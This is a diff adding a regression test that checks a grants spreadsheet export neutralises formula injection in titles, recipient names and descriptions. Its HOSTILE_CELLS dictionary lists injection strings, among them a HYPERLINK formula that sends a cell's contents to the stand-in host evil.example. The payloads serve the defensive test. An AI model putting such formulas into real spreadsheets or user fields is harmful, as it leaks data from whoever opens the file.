@@ -149,6 +149,55 @@ def test_text_a_spreadsheet_cannot_hold_is_left_out_rather_than_failing_the_buil
     assert grants["360G-commonweal-CPF-BELL"]["recipientOrganization"][0]["name"] == "Bell Ringers"
 
 
+HOSTILE_CELLS = {
+    # what a group types -> what the spreadsheet shows, as text (core.csvsafe's rule, as in the CSV exports)
+    '=HYPERLINK("https://evil.example/?"&A1,"Click for the grant")': "'=HYPERLINK(",
+    "+SUM(1,2)": "'+SUM(1,2)",
+    "-2+3": "'-2+3",
+    "@SUM(1,2)": "'@SUM(1,2)",
+    "\t=1+2": "'\t=1+2",
+    "\r=1+2": "'\r=1+2",
+}
+
+
+def test_a_title_recipient_or_description_that_looks_like_a_formula_opens_as_text(
+    grant_set: GrantSet, officer: Any, tmp_path: Path
+) -> None:
+    """Issue 10: a group titled '=HYPERLINK(...)' was a live formula in the public spreadsheet."""
+    hostile = list(HOSTILE_CELLS)
+    for n, text in enumerate(hostile):
+        group = Organisation.objects.create(name=text, slug=f"hostile-{n}", kind="informal_group")
+        make_grant(
+            round_=grant_set.round,
+            organisation=group,
+            officer=officer,
+            reference=f"CPF-EVIL-{n}",
+            amount="100",
+            title=text if not text.startswith(("\t", "\r")) else None,  # titles lose their surrounding spaces
+            summary=f"{text} and more",
+        )
+    built = services.xlsx_file()
+    book = openpyxl.load_workbook(built)  # not read-only: cells keep their data type
+    formulas = [
+        (sheet.title, cell.coordinate, cell.value)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    values = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
+    for shown in HOSTILE_CELLS.values():
+        assert any(isinstance(value, str) and value.startswith(shown) for value in values), shown
+    grants = unflattened(built)
+    evil = grants["360G-commonweal-CPF-EVIL-0"]
+    assert evil["title"] == "'" + hostile[0]
+    assert evil["recipientOrganization"][0]["name"] == "'" + hostile[0]
+    assert grants["360G-commonweal-CPF-EVIL-4"]["recipientOrganization"][0]["name"] == "'\t=1+2"
+    assert grants["360G-commonweal-CPF-EVIL-2"]["description"] == "'-2+3 and more"
+    assert grants["360G-commonweal-CPF-EVIL-1"]["amountAwarded"] == 100  # numbers stay numbers
+
+
 def test_repeated_downloads_reuse_the_file_until_a_grant_changes(
     client: Client, grant_set: GrantSet, officer: Any, monkeypatch: pytest.MonkeyPatch
 ) -> None:
